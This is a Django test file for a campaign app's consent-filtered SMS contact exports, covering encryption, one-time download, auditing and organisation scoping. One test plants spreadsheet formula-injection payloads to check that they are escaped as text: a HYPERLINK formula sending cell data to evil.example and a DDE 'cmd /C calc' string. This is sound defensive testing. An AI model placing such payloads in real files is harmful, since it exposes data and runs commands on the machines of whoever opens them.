"""Phone message exports: only people whose consent in force allows contact by phone and who have a number, in
RapidPro's contact import format, built by a background job, taken once by their maker, audited, counted as
reach."""

from __future__ import annotations

import csv
import io

from django.core.exceptions import PermissionDenied, ValidationError

from hifazat.campaigns import exports, services
from hifazat.campaigns.models import MessageExport, Reach
from hifazat.core.models import AuditEntry, Job
from hifazat.core.roles import Role
from hifazat.core.testing import make_user
from hifazat.geography.models import Site
from hifazat.notifications.models import Notification
from hifazat.people.models import Person

from .base import WIDOWS, CampaignTestCase

URDU_SMS = "ملازمت یا شادی کی پیشکش پر بھروسہ کرنے سے پہلے ہیلپ لائن پر فون کریں۔"
ENGLISH_SMS = "Before you trust an offer of work or marriage, call the helpline 0800-44333."


class ExportTests(CampaignTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.consenting = self.widow("Nasreen", phone="0300-1234567")
        self.declined = self.widow("Zainab", phone="0301-7654321")
        self.withdrawn = self.widow("Fatima", phone="0333-1112223")
        self.no_phone = self.widow("Ayesha")
        self.english = self.widow("Mary", phone="0345-9998887", primary_language="eng")
        self.elsewhere = self.widow("Saima", self.elsewhere, phone="0347-1234567")
        self.not_in_group = self.register(
            "Rukhsana", self.household(), marital_status="Married", phone="0300-5556667"
        )
        for person in (self.consenting, self.no_phone, self.english, self.elsewhere, self.not_in_group):
            self.phone_consent(person)
        self.phone_consent(self.declined, "declined")
        self.phone_consent(self.withdrawn)
        self.phone_consent(self.withdrawn, "withdrawn")
        self.campaign_ = self.campaign()
        self.message = services.key_message_create(
            actor=self.coordinator, campaign=self.campaign_, title="Ask first", topic="what_to_do"
        )
        self.approved(self.message, "urd", "sms", URDU_SMS)
        self.approved(self.message, "eng", "sms", ENGLISH_SMS)

    def start(self, actor=None, **kw) -> MessageExport:
        kw.setdefault("target_group", WIDOWS[0])
        kw.setdefault("fallback_language", "urd")
        with self.captureOnCommitCallbacks(execute=True):
            return exports.export_start(actor=actor or self.coordinator, message=self.message, **kw)

    def rows(self, text: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(text)))

    def test_only_people_whose_consent_allows_phone_contact_are_in_the_file(self) -> None:
        export = self.start()
        export.refresh_from_db()
        self.assertEqual(export.job.status, Job.Status.DONE)
        name, content = exports.export_download(actor=self.coordinator, export=export)
        rows = self.rows(content)
        self.assertEqual(sorted(r["URN:Tel"] for r in rows), ["+923001234567", "+923459998887"])
        self.assertEqual(export.recipients, 2)
        self.assertEqual(export.skipped_without_consent, 2)  # declined, withdrawn
        self.assertTrue(name.endswith(".csv"))

    def test_the_file_has_rapidpro_contact_import_columns_and_each_persons_language(self) -> None:
        _name, content = exports.export_download(actor=self.coordinator, export=self.start())
        self.assertTrue(content.startswith("URN:Tel,Name,Language,Field:awareness_message,Field:site\n"))
        self.assertFalse(content.startswith("\ufeff"))
        by_number = {r["URN:Tel"]: r for r in self.rows(content)}
        nasreen, mary = by_number["+923001234567"], by_number["+923459998887"]
        self.assertEqual(
            (nasreen["Name"], nasreen["Language"], nasreen["Field:awareness_message"]),
            ("Nasreen", "urd", URDU_SMS),
        )
        self.assertEqual((mary["Language"], mary["Field:awareness_message"]), ("eng", ENGLISH_SMS))
        self.assertEqual(nasreen["Field:site"], "ISB-H11")
        self.assertNotIn("Nasreen Bibi", content)  # the first name only

    def test_names_and_site_codes_that_a_spreadsheet_would_run_are_written_as_text(self) -> None:
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        Person.objects.filter(pk=self.consenting.pk).update(first_name=formula)
        Person.objects.filter(pk=self.english.pk).update(first_name="-2+3+cmd|' /C calc'!A0")
        Site.objects.filter(pk=self.h11.pk).update(code="@SUM(1+1)")
        _name, content = exports.export_download(actor=self.coordinator, export=self.start())
        by_number = {r["URN:Tel"]: r for r in self.rows(content)}
        nasreen, mary = by_number["+923001234567"], by_number["+923459998887"]  # numbers stay as they are
        self.assertEqual((nasreen["Name"], nasreen["Field:site"]), ("'" + formula, "'@SUM(1+1)"))
        self.assertEqual(mary["Name"], "'-2+3+cmd|' /C calc'!A0")

    def test_consent_withdrawn_after_the_query_keeps_a_person_out(self) -> None:
        # consent_allows is asked again for each row as the file is written.
        from unittest import mock

        with mock.patch("hifazat.campaigns.exports.consent_allows", return_value=False):
            export = self.start()
        export.refresh_from_db()
        self.assertEqual(export.recipients, 0)

    def test_the_file_is_taken_once_by_its_maker_and_then_wiped(self) -> None:
        export = self.start()
        other = self.actor(make_user(self.org_a, Role.CAMPAIGN_COORDINATOR, "a-coordinator-2"))
        with self.assertRaises(PermissionDenied):
            exports.export_download(actor=other, export=export)
        exports.export_download(actor=self.coordinator, export=export)
        export.refresh_from_db()
        self.assertEqual((export.content_encrypted, export.recipient_ids), ("", []))
        self.assertEqual(export.downloaded_by, self.a[Role.CAMPAIGN_COORDINATOR])
        with self.assertRaisesMessage(ValidationError, "already taken"):
            exports.export_download(actor=self.coordinator, export=export)

    def test_the_file_is_kept_encrypted_until_it_is_taken(self) -> None:
        export = self.start()
        export.refresh_from_db()
        self.assertNotIn("+92300", export.content_encrypted)
        self.assertTrue(export.content_encrypted)

    def test_handing_it_over_is_audited_and_counts_as_reach(self) -> None:
        export = self.start()
        self.assertFalse(Reach.objects.filter(export=export).exists())  # not before the handover
        exports.export_download(actor=self.coordinator, export=export)
        self.assertEqual(
            set(Reach.objects.filter(export=export, via="sms").values_list("person_id", flat=True)),
            {self.consenting.pk, self.english.pk},
        )
        entry = AuditEntry.objects.get(object_uuid=export.uuid, action=AuditEntry.Action.EXPORT)
        self.assertEqual(entry.detail["recipients"], 2)
        self.assertNotIn("+92", str(entry.detail))
        self.assertTrue(
            Notification.objects.filter(
                recipient=self.a[Role.CAMPAIGN_COORDINATOR], kind="campaigns.export_ready"
            ).exists()
        )

    def test_only_the_exporting_organisations_registry_is_used(self) -> None:
        b = self.actor(self.b[Role.CASEWORKER])
        gul = self.widow("Gul", actor=b, phone="0300-2223334")
        self.phone_consent(gul, actor=b)
        services.campaign_update(actor=self.coordinator, campaign=self.campaign_, partners=[self.org_b])
        _name, content = exports.export_download(actor=self.coordinator, export=self.start())
        self.assertNotIn("+923002223334", content)
        partner = self.actor(self.b[Role.CAMPAIGN_COORDINATOR])
        _name, content = exports.export_download(actor=partner, export=self.start(actor=partner))
        self.assertEqual([r["URN:Tel"] for r in self.rows(content)], ["+923002223334"])

    def test_an_export_needs_an_approved_text_message_and_the_right_role(self) -> None:
        draft_only = services.key_message_create(
            actor=self.coordinator, campaign=self.campaign_, title="Draft", topic="what_to_do"
        )
        services.version_write(
            actor=self.coordinator, message=draft_only, language="urd", channel="sms", text="x"
        )
        with self.assertRaisesMessage(ValidationError, "no approved text message"):
            exports.export_start(
                actor=self.coordinator, message=draft_only, target_group=WIDOWS[0], fallback_language="urd"
            )
        for role in (Role.CASEWORKER, Role.SUPERVISOR, Role.ANALYST, Role.DONOR_VIEWER):
            with self.assertRaises(PermissionDenied):
                exports.export_start(
                    actor=self.actor(self.a[role]),
                    message=self.message,
                    target_group=WIDOWS[0],
                    fallback_language="urd",
                )
        with self.assertRaises(PermissionDenied):  # not a partner
            exports.export_start(
                actor=self.actor(self.b[Role.CAMPAIGN_COORDINATOR]),
                message=self.message,
                target_group=WIDOWS[0],
                fallback_language="urd",
            )

    def test_the_pages_start_the_job_and_hand_the_file_over(self) -> None:
        client = self.client_for(self.a[Role.CAMPAIGN_COORDINATOR])
        with self.captureOnCommitCallbacks(execute=True):
            response = client.post(
                f"/campaigns/{self.campaign_.uuid}/exports/new/",
                {"message": self.message.uuid, "target_group": WIDOWS[0], "fallback_language": "urd"},
            )
        export = MessageExport.objects.get()
        self.assertRedirects(response, f"/campaigns/exports/{export.uuid}/")
        self.assertContains(client.get(response.url), "Take the file (once)")
        self.assertEqual(client.get(f"/campaigns/exports/{export.uuid}/download/").status_code, 405)
        download = client.post(f"/campaigns/exports/{export.uuid}/download/")
        self.assertEqual(download["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment;", download["Content-Disposition"])
        self.assertIn(b"+923001234567", download.content)
        again = client.post(f"/campaigns/exports/{export.uuid}/download/", follow=True)
        self.assertContains(again, "already taken")
        self.assertNotContains(again, "Take the file (once)")
